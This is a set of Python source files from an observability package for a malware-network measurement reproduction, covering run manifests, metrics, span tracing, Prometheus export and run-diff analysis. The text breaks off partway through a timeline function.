"""The run flight recorder: one ``manifest.json`` per study run.

A study's telemetry artifacts answer "what did the pipeline measure";
the manifest answers "what run was this" — the provenance and accounting
a long-running study service needs to operate a fleet of runs: seed,
scale, fault plan, config/code fingerprints, cache behaviour, per-phase
durations (wall *and* simulated), per-shard timings and attempts,
quarantined samples with reasons, and failed shards.  It is emitted for
both live and cache-hit runs, so trendlines over artifact directories
never have gaps.

The builder takes plain values and is deliberately free of imports from
``repro.core`` — the study runner computes fingerprints and stats and
hands them in, keeping ``obs`` the bottom layer.
"""

from __future__ import annotations

import json
import os

__all__ = ["MANIFEST_VERSION", "MANIFEST_NAME", "build_manifest",
           "write_manifest", "read_manifest"]

MANIFEST_VERSION = 1
MANIFEST_NAME = "manifest.json"


def build_manifest(*, study: dict, run: dict,
                   phases: dict | None = None,
                   cache: dict | None = None,
                   shards: list[dict] | None = None,
                   quarantined: list[dict] | None = None,
                   failed_shards: list[int] | None = None,
                   datasets: dict | None = None,
                   extra: dict | None = None) -> dict:
    """Assemble the manifest document.

    ``study``  — identity: seed, scale, workers, faults, fingerprints.
    ``run``    — wall accounting: started/finished unix time, wall_seconds,
                 whether the result came from the cache.
    ``phases`` — ``{phase: {count, wall_seconds, sim_seconds}}`` (the
                 ``study.*`` span aggregate).
    ``cache``  — lookup counters (hits/misses/rejected) + enabled flag.
    ``shards`` — per-shard records: shard, attempt, wall_seconds, sizes.
    ``quarantined`` — ``[{sha256, reason}]`` per-sample failures.
    ``datasets``    — the Table-1 size summary of the merged result.
    """
    return {
        "manifest_version": MANIFEST_VERSION,
        "study": dict(study),
        "run": dict(run),
        "phases": dict(phases or {}),
        "cache": dict(cache or {"enabled": False}),
        "shards": [dict(shard) for shard in (shards or [])],
        "quarantined": [dict(q) for q in (quarantined or [])],
        "failed_shards": list(failed_shards or []),
        "datasets": dict(datasets or {}),
        **({"extra": dict(extra)} if extra else {}),
    }


def write_manifest(directory: str, manifest: dict) -> str:
    """Persist ``manifest.json`` under ``directory``; returns the path."""
    os.makedirs(directory, exist_ok=True)
    path = os.path.join(directory, MANIFEST_NAME)
    with open(path, "w", encoding="utf-8") as sink:
        json.dump(manifest, sink, indent=2, sort_keys=False, default=str)
        sink.write("\n")
    return path


def read_manifest(directory: str) -> dict:
    """Load the manifest from an artifact directory (or a direct path)."""
    path = directory
    if os.path.isdir(directory):
        path = os.path.join(directory, MANIFEST_NAME)
    with open(path, "r", encoding="utf-8") as source:
        return json.load(source)
