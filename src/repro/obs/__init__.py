"""Observability: metrics, stage tracing, and structured events.

The MalNet reproduction is a year-long daily measurement loop; this
package is its nervous system.  Four pieces, all stdlib-only:

* :class:`MetricsRegistry` — counters, gauges, fixed-bucket histograms,
  with Prometheus-style label support;
* :class:`Tracer` — ``with tracer.span("sandbox.analyze", ...)`` stage
  spans recording wall-clock *and* simulation-clock time in a trace tree;
* :class:`EventLog` — leveled structured events with a JSON-lines sink;
* exporters — Prometheus text format and a JSON snapshot.

Everything is off by default: instrumented code takes a ``telemetry``
argument defaulting to :data:`NULL_TELEMETRY`, whose operations are
no-ops.  See :func:`create_telemetry` to switch it on.
"""

from .analysis import (
    counter_series,
    describe_manifest,
    diff_runs,
    histogram_quantiles,
    histogram_series,
    load_snapshot,
    load_trace,
    timeline,
    top_spans,
)
from .events import LEVELS, EventLog, NullEventLog
from .exporters import escape_help, escape_label_value, to_prometheus
from .manifest import build_manifest, read_manifest, write_manifest
from .merge import (
    fold_counters,
    fold_histograms,
    fold_metrics,
    graft_span_tree,
    merge_shard_telemetry,
)
from .metrics import (
    DEFAULT_BUCKETS,
    LATENCY_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    LabelCardinalityError,
    MetricError,
    MetricFamily,
    MetricsRegistry,
    NullRegistry,
    quantile_from_cumulative,
)
from .telemetry import NULL_TELEMETRY, NullTelemetry, Telemetry, create_telemetry
from .trace_export import chrome_trace, to_trace_events, write_chrome_trace
from .tracing import NullTracer, Span, Tracer

__all__ = [
    "DEFAULT_BUCKETS",
    "LATENCY_BUCKETS",
    "LEVELS",
    "NULL_TELEMETRY",
    "Counter",
    "EventLog",
    "Gauge",
    "Histogram",
    "LabelCardinalityError",
    "MetricError",
    "MetricFamily",
    "MetricsRegistry",
    "NullEventLog",
    "NullRegistry",
    "NullTelemetry",
    "NullTracer",
    "Span",
    "Telemetry",
    "Tracer",
    "build_manifest",
    "chrome_trace",
    "counter_series",
    "create_telemetry",
    "describe_manifest",
    "diff_runs",
    "escape_help",
    "escape_label_value",
    "fold_counters",
    "fold_histograms",
    "fold_metrics",
    "graft_span_tree",
    "histogram_quantiles",
    "histogram_series",
    "load_snapshot",
    "load_trace",
    "merge_shard_telemetry",
    "quantile_from_cumulative",
    "read_manifest",
    "timeline",
    "to_prometheus",
    "to_trace_events",
    "top_spans",
    "write_chrome_trace",
    "write_manifest",
]
