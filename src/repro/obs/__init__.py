"""Observability: metrics, stage tracing, and structured events.

The MalNet reproduction is a year-long daily measurement loop; this
package is its nervous system.  Four pieces, all stdlib-only:

* :class:`MetricsRegistry` — counters, gauges, fixed-bucket histograms,
  with Prometheus-style label support;
* :class:`Tracer` — ``with tracer.span("sandbox.analyze", ...)`` stage
  spans recording wall-clock *and* simulation-clock time in a trace tree;
* :class:`EventLog` — leveled structured events with a JSON-lines sink;
* exporters — Prometheus text format and a JSON snapshot.

Everything is off by default: instrumented code takes a ``telemetry``
argument defaulting to :data:`NULL_TELEMETRY`, whose operations are
no-ops.  See :func:`create_telemetry` to switch it on.
"""

from .events import LEVELS, EventLog, NullEventLog
from .exporters import escape_label_value, to_prometheus
from .metrics import (
    DEFAULT_BUCKETS,
    LATENCY_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    LabelCardinalityError,
    MetricError,
    MetricFamily,
    MetricsRegistry,
    NullRegistry,
)
from .telemetry import NULL_TELEMETRY, NullTelemetry, Telemetry, create_telemetry
from .tracing import NullTracer, Span, Tracer

__all__ = [
    "DEFAULT_BUCKETS",
    "LATENCY_BUCKETS",
    "LEVELS",
    "NULL_TELEMETRY",
    "Counter",
    "EventLog",
    "Gauge",
    "Histogram",
    "LabelCardinalityError",
    "MetricError",
    "MetricFamily",
    "MetricsRegistry",
    "NullEventLog",
    "NullRegistry",
    "NullTelemetry",
    "NullTracer",
    "Span",
    "Telemetry",
    "Tracer",
    "create_telemetry",
    "escape_label_value",
    "to_prometheus",
]
