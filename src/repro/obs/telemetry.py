"""The telemetry facade: one object bundling metrics + tracing + events.

Instrumented code takes a ``telemetry`` parameter defaulting to
:data:`NULL_TELEMETRY`, whose every operation is a no-op — the default
study run pays only attribute lookups.  Enable it with
:func:`create_telemetry` and hand the same instance to everything that
should share a registry:

    telemetry = create_telemetry()
    malnet, campaign, datasets = run_study(world, telemetry=telemetry)
    telemetry.write("out/telemetry")         # snapshot.json, events.jsonl,
                                             # metrics.prom
"""

from __future__ import annotations

import json
import os
from typing import Callable

from .events import EventLog, NullEventLog
from .exporters import snapshot as _snapshot, to_prometheus
from .manifest import write_manifest
from .metrics import MetricsRegistry, NullRegistry
from .trace_export import write_chrome_trace
from .tracing import NullTracer, Tracer

__all__ = ["Telemetry", "NullTelemetry", "NULL_TELEMETRY", "create_telemetry"]


class Telemetry:
    """Live telemetry: a registry, a tracer, and an event log.

    ``manifest`` (a plain dict, see :mod:`repro.obs.manifest`) is attached
    by the study runner; when present, :meth:`write` persists it next to
    the snapshot so every artifact directory is self-describing.
    """

    enabled = True

    def __init__(self, metrics: MetricsRegistry | None = None,
                 tracer: Tracer | None = None,
                 events: EventLog | None = None):
        self.metrics = metrics if metrics is not None else MetricsRegistry()
        self.tracer = tracer if tracer is not None else Tracer()
        self.events = events if events is not None else EventLog()
        self.manifest: dict | None = None

    def bind_sim_clock(self, clock: Callable[[], float]) -> None:
        """Attach the simulation clock so spans/events carry sim time."""
        self.tracer.sim_clock = clock
        self.events.sim_clock = clock

    def snapshot(self) -> dict:
        return _snapshot(self)

    def write(self, directory: str) -> dict[str, str]:
        """Persist the artifact directory: snapshot + events + Prometheus
        text + Chrome trace, plus the run manifest when one is attached."""
        os.makedirs(directory, exist_ok=True)
        paths = {
            "snapshot": os.path.join(directory, "snapshot.json"),
            "events": os.path.join(directory, "events.jsonl"),
            "prometheus": os.path.join(directory, "metrics.prom"),
            "trace": os.path.join(directory, "trace.json"),
        }
        with open(paths["snapshot"], "w", encoding="utf-8") as sink:
            json.dump(self.snapshot(), sink, indent=2, default=str)
            sink.write("\n")
        self.events.write_jsonl(paths["events"])
        with open(paths["prometheus"], "w", encoding="utf-8") as sink:
            sink.write(to_prometheus(self.metrics))
        write_chrome_trace(paths["trace"], self.tracer)
        if self.manifest is not None:
            paths["manifest"] = write_manifest(directory, self.manifest)
        return paths


class NullTelemetry(Telemetry):
    """Disabled telemetry: all three components are no-ops."""

    enabled = False

    def __init__(self):
        super().__init__(metrics=NullRegistry(), tracer=NullTracer(),
                         events=NullEventLog())

    def bind_sim_clock(self, clock: Callable[[], float]) -> None:
        pass

    def write(self, directory: str) -> dict[str, str]:
        return {}


#: Shared disabled instance — the default for every instrumented API.
NULL_TELEMETRY = NullTelemetry()


def create_telemetry(level: str = "info") -> Telemetry:
    """A fresh enabled telemetry bundle with the given event level."""
    return Telemetry(events=EventLog(level=level))
