"""Span-based stage tracing with wall-clock *and* simulation-clock time.

The pipeline runs against a simulated Internet whose clock jumps days at
a time, so a stage has two durations that matter: how long it took the
host CPU (wall seconds) and how much simulated time elapsed inside it
(sim seconds — can be negative when a stage rewinds the clock, as the
parallel-sandbox model does).  Spans nest into a trace tree::

    with tracer.span("sandbox.analyze", sha256=digest) as span:
        ...
        span.set_attribute("activated", True)

Every finished span updates a per-name aggregate (count / wall / sim);
the tree itself is kept up to ``keep_spans`` spans so a full-scale study
cannot balloon memory — the aggregate keeps counting past the cap.
"""

from __future__ import annotations

import time
from typing import Callable

__all__ = ["Span", "Tracer", "NullTracer", "NULL_SPAN"]


class Span:
    """One traced stage; usable as a context manager via the tracer.

    ``wall_start`` is the span's begin instant on ``time.perf_counter()``
    (CLOCK_MONOTONIC on Linux, comparable across processes on one host),
    ``sim_start`` the simulation-clock instant — both kept so a finished
    trace can be laid out on a timeline, not just summed.
    """

    def __init__(self, tracer: "Tracer | None", name: str, attributes: dict):
        self.name = name
        self.attributes = attributes
        self.children: list[Span] = []
        self.wall_elapsed = 0.0
        self.sim_elapsed = 0.0
        self.wall_start = 0.0
        self.sim_start = 0.0
        self._tracer = tracer

    def set_attribute(self, key: str, value) -> None:
        self.attributes[key] = value

    def __enter__(self) -> "Span":
        self.wall_start = time.perf_counter()
        clock = self._tracer.sim_clock
        self.sim_start = clock() if clock is not None else 0.0
        self._tracer._push(self)
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.wall_elapsed = time.perf_counter() - self.wall_start
        clock = self._tracer.sim_clock
        if clock is not None:
            self.sim_elapsed = clock() - self.sim_start
        self._tracer._pop(self)

    def to_dict(self) -> dict:
        record = {
            "name": self.name,
            "wall_start": self.wall_start,
            "wall_seconds": self.wall_elapsed,
            "sim_start": self.sim_start,
            "sim_seconds": self.sim_elapsed,
        }
        if self.attributes:
            record["attributes"] = dict(self.attributes)
        if self.children:
            record["children"] = [child.to_dict() for child in self.children]
        return record

    @classmethod
    def from_dict(cls, record: dict, tracer: "Tracer | None" = None) -> "Span":
        """Rebuild a span (and its subtree) from a :meth:`to_dict` record."""
        span = cls(tracer, record["name"], dict(record.get("attributes", {})))
        span.wall_start = record.get("wall_start", 0.0)
        span.wall_elapsed = record.get("wall_seconds", 0.0)
        span.sim_start = record.get("sim_start", 0.0)
        span.sim_elapsed = record.get("sim_seconds", 0.0)
        span.children = [cls.from_dict(child, tracer)
                         for child in record.get("children", [])]
        return span


class Tracer:
    """Builds the trace tree and the per-stage aggregate."""

    enabled = True

    def __init__(self, sim_clock: Callable[[], float] | None = None,
                 keep_spans: int = 10_000):
        self.sim_clock = sim_clock
        self.keep_spans = keep_spans
        self.roots: list[Span] = []
        self.dropped = 0
        self._stack: list[Span] = []
        self._kept = 0
        self._aggregate: dict[str, list[float]] = {}  # name -> [n, wall, sim]

    def span(self, name: str, **attributes) -> Span:
        return Span(self, name, attributes)

    # -- called by Span ------------------------------------------------------

    def _push(self, span: Span) -> None:
        self._stack.append(span)

    def _pop(self, span: Span) -> None:
        if self._stack and self._stack[-1] is span:
            self._stack.pop()
        stat = self._aggregate.setdefault(span.name, [0, 0.0, 0.0])
        stat[0] += 1
        stat[1] += span.wall_elapsed
        stat[2] += span.sim_elapsed
        if self._kept >= self.keep_spans:
            self.dropped += 1
            return
        self._kept += 1
        if self._stack:
            self._stack[-1].children.append(span)
        else:
            self.roots.append(span)

    # -- views ---------------------------------------------------------------

    def aggregate(self) -> dict[str, dict[str, float]]:
        """Per-stage totals: ``{name: {count, wall_seconds, sim_seconds}}``."""
        return {
            name: {"count": n, "wall_seconds": wall, "sim_seconds": sim}
            for name, (n, wall, sim) in sorted(self._aggregate.items())
        }

    def tree(self) -> list[dict]:
        return [root.to_dict() for root in self.roots]

    # -- snapshot / restore (cross-process merge) ----------------------------

    def snapshot(self) -> dict:
        """Portable view of the tracer: plain dicts, ``json``/pickle-safe."""
        return {
            "aggregate": self.aggregate(),
            "tree": self.tree(),
            "dropped": self.dropped,
        }

    def fold_aggregate(self, aggregate: dict[str, dict[str, float]]) -> None:
        """Add another tracer's per-stage totals into this one's."""
        for name, stat in aggregate.items():
            slot = self._aggregate.setdefault(name, [0, 0.0, 0.0])
            slot[0] += stat["count"]
            slot[1] += stat["wall_seconds"]
            slot[2] += stat["sim_seconds"]

    def adopt(self, span: Span, parent: Span | None = None) -> None:
        """Attach an already-finished span (a restored subtree) to the tree.

        Bypasses the ``keep_spans`` cap — the caller is grafting a bounded,
        already-capped worker snapshot, not recording new spans.
        """
        (parent.children if parent is not None else self.roots).append(span)


class _NullSpan:
    """Shared no-op span for the disabled tracer."""

    __slots__ = ()

    def set_attribute(self, key: str, value) -> None:
        pass

    def __enter__(self):
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        pass


NULL_SPAN = _NullSpan()


class NullTracer(Tracer):
    """Disabled tracer: hands out the shared no-op span."""

    enabled = False

    def __init__(self):
        super().__init__(keep_spans=0)

    def span(self, name: str, **attributes):
        return NULL_SPAN
