"""Metric primitives: counters, gauges, and fixed-bucket histograms.

Zero-dependency, allocation-light telemetry core.  A *metric family* is
created once (get-or-create on the registry) and carries a fixed set of
label names; each distinct label-value combination materialises one child
series on first use.  The disabled path (:class:`NullRegistry`) hands
back a shared no-op metric so instrumented code never branches on
"is telemetry on".

Semantics follow the Prometheus data model: counters only go up, gauges
move freely, histograms count observations into fixed ``le`` buckets and
track ``sum``/``count``.
"""

from __future__ import annotations

import bisect
import re

__all__ = [
    "DEFAULT_BUCKETS",
    "LATENCY_BUCKETS",
    "Counter",
    "Gauge",
    "Histogram",
    "LabelCardinalityError",
    "MetricError",
    "MetricFamily",
    "MetricsRegistry",
    "NullRegistry",
    "NULL_METRIC",
    "quantile_from_cumulative",
]

#: Prometheus' classic duration buckets (seconds).
DEFAULT_BUCKETS: tuple[float, ...] = (
    0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0,
)

#: Feed publication latencies span minutes to a full day (§2.2).
LATENCY_BUCKETS: tuple[float, ...] = (
    60.0, 300.0, 900.0, 3600.0, 2 * 3600.0, 4 * 3600.0, 8 * 3600.0,
    12 * 3600.0, 18 * 3600.0, 24 * 3600.0,
)

_NAME_RE = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*$")


def quantile_from_cumulative(uppers: list[float], cumulative: list[int],
                             q: float) -> float:
    """The q-quantile of a cumulative bucket series (Prometheus semantics).

    ``uppers`` are the finite bucket bounds, ``cumulative`` the running
    counts with the final +Inf total appended.  Answers the upper bound of
    the bucket containing the target rank; observations beyond the last
    finite bucket answer that last finite bound (``histogram_quantile``'s
    convention), and an empty series answers ``nan``.
    """
    if not 0.0 <= q <= 1.0:
        raise MetricError(f"quantile must be in [0, 1], got {q}")
    total = cumulative[-1] if cumulative else 0
    if total <= 0:
        return float("nan")
    rank = q * total
    for index, running in enumerate(cumulative):
        if running >= rank:
            if index < len(uppers):
                return uppers[index]
            return uppers[-1] if uppers else float("inf")
    return uppers[-1] if uppers else float("inf")


class MetricError(ValueError):
    """Misuse of the metrics API (bad name, type clash, bad labels)."""


class LabelCardinalityError(MetricError):
    """A family exceeded its configured maximum number of label sets."""


class Counter:
    """Monotonically increasing value."""

    __slots__ = ("value",)

    def __init__(self):
        self.value = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise MetricError("counters only go up")
        self.value += amount

    def snapshot(self) -> float:
        return self.value


class Gauge:
    """Value that can go up and down."""

    __slots__ = ("value",)

    def __init__(self):
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount

    def snapshot(self) -> float:
        return self.value


class Histogram:
    """Fixed-bucket histogram of observations.

    ``counts[i]`` counts observations with ``value <= buckets[i]`` minus
    those in earlier buckets (i.e. non-cumulative); the final slot is the
    ``+Inf`` overflow bucket.  :meth:`cumulative` produces the Prometheus
    cumulative view.
    """

    __slots__ = ("buckets", "counts", "sum", "count")

    def __init__(self, buckets: tuple[float, ...]):
        self.buckets = buckets
        self.counts = [0] * (len(buckets) + 1)
        self.sum = 0.0
        self.count = 0

    def observe(self, value: float) -> None:
        self.counts[bisect.bisect_left(self.buckets, value)] += 1
        self.sum += value
        self.count += 1

    def cumulative(self) -> list[int]:
        """Cumulative per-bucket counts, ending with the +Inf total."""
        running, out = 0, []
        for n in self.counts:
            running += n
            out.append(running)
        return out

    def quantile(self, q: float) -> float:
        """Estimated q-quantile (Prometheus-style, upper bucket bound)."""
        return quantile_from_cumulative(list(self.buckets), self.cumulative(), q)

    def snapshot(self) -> dict:
        upper = [str(b) for b in self.buckets] + ["+Inf"]
        return {
            "buckets": dict(zip(upper, self.cumulative())),
            "sum": self.sum,
            "count": self.count,
        }


class MetricFamily:
    """One named metric with a fixed label schema and child series."""

    def __init__(self, name: str, kind: str, help: str,
                 labelnames: tuple[str, ...], make_child,
                 max_label_sets: int):
        self.name = name
        self.kind = kind
        self.help = help
        self.labelnames = labelnames
        self._make_child = make_child
        self._max_label_sets = max_label_sets
        self._series: dict[tuple[str, ...], object] = {}

    def labels(self, **labels):
        """The child series for one label-value combination (created lazily)."""
        if set(labels) != set(self.labelnames):
            raise MetricError(
                f"{self.name}: expected labels {self.labelnames}, "
                f"got {tuple(sorted(labels))}"
            )
        key = tuple(str(labels[name]) for name in self.labelnames)
        child = self._series.get(key)
        if child is None:
            if len(self._series) >= self._max_label_sets:
                raise LabelCardinalityError(
                    f"{self.name}: more than {self._max_label_sets} label sets"
                )
            child = self._make_child()
            self._series[key] = child
        return child

    def _default(self):
        if self.labelnames:
            raise MetricError(f"{self.name}: label values required")
        return self.labels()

    # unlabelled convenience: counter("x").inc() etc.
    def inc(self, amount: float = 1.0) -> None:
        self._default().inc(amount)

    def dec(self, amount: float = 1.0) -> None:
        self._default().dec(amount)

    def set(self, value: float) -> None:
        self._default().set(value)

    def observe(self, value: float) -> None:
        self._default().observe(value)

    def series(self):
        """Iterate ``(labels_dict, child)`` sorted by label values."""
        for key in sorted(self._series):
            yield dict(zip(self.labelnames, key)), self._series[key]

    def snapshot(self) -> dict:
        return {
            "type": self.kind,
            "help": self.help,
            "labelnames": list(self.labelnames),
            "series": [
                {"labels": labels, "value": child.snapshot()}
                for labels, child in self.series()
            ],
        }


class MetricsRegistry:
    """Get-or-create store of metric families."""

    enabled = True

    def __init__(self, max_label_sets: int = 1024):
        self._max_label_sets = max_label_sets
        self._families: dict[str, MetricFamily] = {}

    def _family(self, name: str, kind: str, help: str,
                labelnames: tuple[str, ...], make_child) -> MetricFamily:
        if not _NAME_RE.match(name):
            raise MetricError(f"invalid metric name: {name!r}")
        labelnames = tuple(labelnames)
        existing = self._families.get(name)
        if existing is not None:
            if existing.kind != kind or existing.labelnames != labelnames:
                raise MetricError(
                    f"{name}: already registered as {existing.kind}"
                    f"{existing.labelnames}, requested {kind}{labelnames}"
                )
            return existing
        family = MetricFamily(name, kind, help, labelnames, make_child,
                              self._max_label_sets)
        self._families[name] = family
        return family

    def counter(self, name: str, help: str = "",
                labelnames: tuple[str, ...] = ()) -> MetricFamily:
        return self._family(name, "counter", help, labelnames, Counter)

    def gauge(self, name: str, help: str = "",
              labelnames: tuple[str, ...] = ()) -> MetricFamily:
        return self._family(name, "gauge", help, labelnames, Gauge)

    def histogram(self, name: str, help: str = "",
                  labelnames: tuple[str, ...] = (),
                  buckets: tuple[float, ...] = DEFAULT_BUCKETS) -> MetricFamily:
        buckets = tuple(float(b) for b in buckets)
        if list(buckets) != sorted(set(buckets)):
            raise MetricError("histogram buckets must be strictly increasing")
        family = self._family(name, "histogram", help, labelnames,
                              lambda: Histogram(buckets))
        return family

    def get(self, name: str) -> MetricFamily | None:
        return self._families.get(name)

    def families(self) -> list[MetricFamily]:
        return [self._families[name] for name in sorted(self._families)]

    def value(self, name: str, **labels) -> float:
        """Read one counter/gauge series (0.0 when never touched)."""
        family = self._families.get(name)
        if family is None:
            return 0.0
        key = tuple(str(labels[n]) for n in family.labelnames)
        child = family._series.get(key)
        return child.value if child is not None else 0.0

    def snapshot(self) -> dict:
        return {f.name: f.snapshot() for f in self.families()}


class _NullMetric:
    """Shared do-nothing stand-in for every metric type."""

    __slots__ = ()

    def labels(self, **labels):
        return self

    def inc(self, amount: float = 1.0) -> None:
        pass

    def dec(self, amount: float = 1.0) -> None:
        pass

    def set(self, value: float) -> None:
        pass

    def observe(self, value: float) -> None:
        pass


NULL_METRIC = _NullMetric()


class NullRegistry(MetricsRegistry):
    """Disabled registry: every family is the shared no-op metric."""

    enabled = False

    def __init__(self):
        super().__init__(max_label_sets=0)

    def counter(self, name, help="", labelnames=()):
        return NULL_METRIC

    def gauge(self, name, help="", labelnames=()):
        return NULL_METRIC

    def histogram(self, name, help="", labelnames=(), buckets=DEFAULT_BUCKETS):
        return NULL_METRIC
