"""Exporters: Prometheus text format (0.0.4) and the JSON snapshot.

``to_prometheus`` renders a :class:`~repro.obs.metrics.MetricsRegistry`
as scrape-ready text — ``# HELP`` / ``# TYPE`` headers, escaped label
values, cumulative ``_bucket{le=...}`` series plus ``_sum``/``_count``
for histograms.  The JSON snapshot bundles metrics, per-stage span
aggregates, the trace tree, and event-log accounting into one plain-dict
document suitable for ``json.dump``.
"""

from __future__ import annotations

from .metrics import Histogram, MetricsRegistry

__all__ = ["escape_help", "escape_label_value", "to_prometheus", "snapshot"]


def escape_label_value(value: str) -> str:
    """Escape a label value per the Prometheus exposition format."""
    return (value.replace("\\", r"\\")
                 .replace("\n", r"\n")
                 .replace('"', r'\"'))


def escape_help(text: str) -> str:
    """Escape HELP text per the exposition format: backslash FIRST, then
    newline — the reverse order would corrupt a literal ``\\n`` in the help
    string into an escaped newline."""
    return text.replace("\\", r"\\").replace("\n", r"\n")


def _format_value(value: float) -> str:
    if value == int(value) and abs(value) < 1e15:
        return str(int(value))
    return repr(value)


def _labels_text(labels: dict[str, str], extra: tuple[str, str] | None = None) -> str:
    pairs = [(k, v) for k, v in labels.items()]
    if extra is not None:
        pairs.append(extra)
    if not pairs:
        return ""
    body = ",".join(f'{k}="{escape_label_value(str(v))}"' for k, v in pairs)
    return "{" + body + "}"


def to_prometheus(registry: MetricsRegistry) -> str:
    """Render every family in the registry as Prometheus text."""
    lines: list[str] = []
    for family in registry.families():
        if family.help:
            lines.append(f"# HELP {family.name} {escape_help(family.help)}")
        lines.append(f"# TYPE {family.name} {family.kind}")
        for labels, child in family.series():
            if isinstance(child, Histogram):
                upper = [str(b) for b in child.buckets] + ["+Inf"]
                for le, total in zip(upper, child.cumulative()):
                    lines.append(
                        f"{family.name}_bucket"
                        f"{_labels_text(labels, ('le', le))} {total}"
                    )
                lines.append(f"{family.name}_sum{_labels_text(labels)} "
                             f"{_format_value(child.sum)}")
                lines.append(f"{family.name}_count{_labels_text(labels)} "
                             f"{child.count}")
            else:
                lines.append(f"{family.name}{_labels_text(labels)} "
                             f"{_format_value(child.value)}")
    return "\n".join(lines) + ("\n" if lines else "")


def snapshot(telemetry) -> dict:
    """The full JSON-ready telemetry snapshot."""
    tracer = telemetry.tracer
    events = telemetry.events
    return {
        "metrics": telemetry.metrics.snapshot(),
        "spans": tracer.aggregate(),
        "trace": tracer.tree(),
        "events": {"recorded": len(events.events), "dropped": events.dropped},
    }
