"""Artifact-directory analysis: the data layer behind ``repro obs``.

A ``--telemetry PATH`` run leaves a self-describing artifact directory
(``snapshot.json``, ``events.jsonl``, ``metrics.prom``, ``trace.json``,
``manifest.json``).  This module reads those files back and answers the
operator questions the CLI group exposes: what was slow (``top``), what
changed between two runs (``diff``), what did the run's timeline look
like (``timeline``), and what run was this (``manifest``).

Everything here works on the persisted JSON documents, never on live
telemetry objects — the CLI can interrogate a run that finished last
week on another machine.
"""

from __future__ import annotations

import json
import math
import os

from .metrics import quantile_from_cumulative

__all__ = [
    "load_snapshot",
    "load_trace",
    "counter_series",
    "histogram_series",
    "histogram_quantiles",
    "top_spans",
    "diff_runs",
    "timeline",
    "describe_manifest",
]


def _load_json(directory: str, name: str) -> dict:
    path = os.path.join(directory, name) if os.path.isdir(directory) \
        else directory
    with open(path, "r", encoding="utf-8") as source:
        return json.load(source)


def load_snapshot(directory: str) -> dict:
    """The ``snapshot.json`` document of one artifact directory."""
    return _load_json(directory, "snapshot.json")


def load_trace(directory: str) -> dict:
    """The ``trace.json`` document of one artifact directory."""
    return _load_json(directory, "trace.json")


def _series_name(family: str, labels: dict) -> str:
    if not labels:
        return family
    body = ",".join(f"{k}={v}" for k, v in sorted(labels.items()))
    return f"{family}{{{body}}}"


def counter_series(snapshot: dict) -> dict[str, float]:
    """Flat ``name{label=value}`` -> total for every counter series."""
    out: dict[str, float] = {}
    for name, family in snapshot.get("metrics", {}).items():
        if family["type"] != "counter":
            continue
        for series in family["series"]:
            out[_series_name(name, series["labels"])] = series["value"]
    return out


def histogram_series(snapshot: dict) -> dict[str, dict]:
    """Flat series name -> ``{buckets, sum, count}`` for every histogram."""
    out: dict[str, dict] = {}
    for name, family in snapshot.get("metrics", {}).items():
        if family["type"] != "histogram":
            continue
        for series in family["series"]:
            out[_series_name(name, series["labels"])] = series["value"]
    return out


def histogram_quantiles(value: dict, quantiles=(0.5, 0.95, 0.99)) -> dict:
    """``{q: bound}`` for one snapshot histogram value (bucket map form)."""
    uppers = [float(u) for u in value["buckets"] if u != "+Inf"]
    cumulative = list(value["buckets"].values())
    return {q: quantile_from_cumulative(uppers, cumulative, q)
            for q in quantiles}


def top_spans(snapshot: dict, n: int = 10) -> list[tuple[str, dict]]:
    """The ``n`` stages with the largest total wall time, descending."""
    spans = snapshot.get("spans", {})
    ranked = sorted(spans.items(), key=lambda item: -item[1]["wall_seconds"])
    return ranked[:n]


# -- run-to-run diff ----------------------------------------------------------


def _relative(before: float, after: float) -> float:
    """Relative change; +/-inf when a series (dis)appears."""
    if before == after:
        return 0.0
    if before == 0:
        return math.inf if after > 0 else -math.inf
    return (after - before) / abs(before)


def _percent(rel: float) -> str:
    if math.isinf(rel):
        return "new" if rel > 0 else "gone"
    return f"{rel:+.1%}"


def diff_runs(dir_a: str, dir_b: str, threshold: float = 0.25,
              min_wall: float = 0.05) -> tuple[list[str], int]:
    """Compare two artifact directories; returns (report lines, breaches).

    Counters and histogram count/sum breach when their relative change
    exceeds ``threshold`` in either direction; span wall times breach
    only on regression (B slower than A) and only for stages whose wall
    time reaches ``min_wall`` seconds in at least one run — wall clocks
    are noisy, counts are not.
    """
    a, b = load_snapshot(dir_a), load_snapshot(dir_b)
    lines: list[str] = []
    breaches = 0

    counters_a, counters_b = counter_series(a), counter_series(b)
    for name in sorted(set(counters_a) | set(counters_b)):
        before = counters_a.get(name, 0.0)
        after = counters_b.get(name, 0.0)
        rel = _relative(before, after)
        if abs(rel) > threshold:
            breaches += 1
            lines.append(f"counter   {name}: {before:g} -> {after:g} "
                         f"({_percent(rel)}) BREACH")
        elif rel:
            lines.append(f"counter   {name}: {before:g} -> {after:g} "
                         f"({_percent(rel)})")

    hists_a, hists_b = histogram_series(a), histogram_series(b)
    for name in sorted(set(hists_a) | set(hists_b)):
        empty = {"buckets": {}, "sum": 0.0, "count": 0}
        before, after = hists_a.get(name, empty), hists_b.get(name, empty)
        for field in ("count", "sum"):
            rel = _relative(before[field], after[field])
            if abs(rel) > threshold:
                breaches += 1
                lines.append(
                    f"histogram {name}.{field}: {before[field]:g} -> "
                    f"{after[field]:g} ({_percent(rel)}) BREACH")
            elif rel:
                lines.append(
                    f"histogram {name}.{field}: {before[field]:g} -> "
                    f"{after[field]:g} ({_percent(rel)})")

    spans_a = a.get("spans", {})
    spans_b = b.get("spans", {})
    for name in sorted(set(spans_a) | set(spans_b)):
        before = spans_a.get(name, {}).get("wall_seconds", 0.0)
        after = spans_b.get(name, {}).get("wall_seconds", 0.0)
        if max(before, after) < min_wall:
            continue
        rel = _relative(before, after)
        if rel > threshold:
            breaches += 1
            lines.append(f"span      {name}: {before:.3f}s -> {after:.3f}s "
                         f"({_percent(rel)}) BREACH")
        elif abs(rel) > threshold:
            lines.append(f"span      {name}: {before:.3f}s -> {after:.3f}s "
                         f"({_percent(rel)})")
    return lines, breaches


# -- ASCII timeline -----------------------------------------------------------


def timeline(trace: dict, width: int = 64) -> list[str]:
    """Render ``trace.json`` as one ASCII bar per track.

